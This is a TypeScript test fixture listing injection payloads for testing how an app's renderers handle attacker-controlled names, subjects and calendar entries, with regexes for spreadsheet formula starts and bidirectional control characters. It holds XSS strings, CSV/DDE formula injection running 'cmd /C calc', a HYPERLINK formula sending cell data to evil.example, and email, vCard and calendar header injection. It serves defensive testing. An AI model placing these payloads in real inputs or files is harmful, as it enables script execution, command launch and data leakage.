// One hostile corpus for every renderer: text an outsider can put in a display name, subject, rule name,
// file name, contact or calendar entry (anyone can email a councillor, invite them or share a file).
// Each entry says what it attacks, so a failing assertion names the payload that got through.

export interface HostileText {
  /** What the payload tries. */
  attack: 'html' | 'url' | 'css' | 'bidi' | 'zero-width' | 'formula' | 'line-break' | 'markdown' | 'control';
  text: string;
}

export const HOSTILE_CORPUS: readonly HostileText[] = [
  { attack: 'html', text: '<script>window.__pwned=1</script>' },
  { attack: 'html', text: '"><img src=x onerror="window.__pwned=1">' },
  { attack: 'html', text: "' onmouseover='window.__pwned=1' x='" },
  { attack: 'html', text: '<svg onload=window.__pwned=1>' },
  { attack: 'html', text: '<a href="javascript:window.__pwned=1">click</a>' },
  { attack: 'html', text: '</title></textarea><iframe src="//evil.example/"></iframe>' },
  { attack: 'html', text: '<!--<script>--><meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { attack: 'url', text: 'javascript:window.__pwned=1' },
  { attack: 'url', text: ' JaVaScRiPt:window.__pwned=1' },
  { attack: 'url', text: 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+' },
  { attack: 'css', text: '</style><style>body{background:url(https://evil.example/x)}</style>' },
  { attack: 'css', text: 'x{}*{background:url("//evil.example")}' },
  { attack: 'bidi', text: 'invoice\u202Efdp.exe' },
  { attack: 'bidi', text: 'Cllr \u2066Evil\u2069 \u202Dname\u202C' },
  { attack: 'zero-width', text: 'java\u200Bscript:window.__pwned=1' },
  { attack: 'zero-width', text: 'clerk\u200D@exampleparish\uFEFF.gov.uk' },
  { attack: 'formula', text: '=HYPERLINK("https://evil.example/?"&A1,"Click")' },
  { attack: 'formula', text: '+cmd|\' /C calc\'!A0' },
  { attack: 'formula', text: '-2+3+cmd|\' /C calc\'!A0' },
  { attack: 'formula', text: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
  { attack: 'formula', text: '\t=1+1' },
  { attack: 'formula', text: '\r=1+1' },
  { attack: 'formula', text: '\n=1+1' },
  { attack: 'line-break', text: 'Bob\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Mallory' },
  { attack: 'line-break', text: 'Meeting\r\nATTENDEE:mailto:evil@evil.example\r\nX-INJECTED:1' },
  { attack: 'line-break', text: 'Minutes\nBcc: evil@evil.example' },
  { attack: 'line-break', text: 'bare\rDESCRIPTION:injected' },
  { attack: 'line-break', text: 'sep\u2028# Heading\u2029- list' },
  { attack: 'markdown', text: '# Fake heading' },
  { attack: 'markdown', text: '[click me](javascript:window.__pwned=1) ![x](https://evil.example/t.png)' },
  { attack: 'markdown', text: '`code` *bold* _em_ <b>tag</b> | table |' },
  { attack: 'control', text: 'nul\u0000bell\u0007esc\u001b[31m' },
  { attack: 'html', text: 'Cllr Ŝïłvía 🐝 O\'Brien-Ñúñez 田中 & Co' },
];

export const HOSTILE_TEXTS = HOSTILE_CORPUS.map((h) => h.text);

/** Characters a spreadsheet reads as the start of a formula (OWASP CSV injection), plus LF and NUL. */
export const FORMULA_START = /^[=+\-@\t\r\n\0]/;

/** Bidirectional overrides and isolates: they reorder how a name is displayed. */
export const BIDI_CONTROL = /[\u202A-\u202E\u2066-\u2069]/;
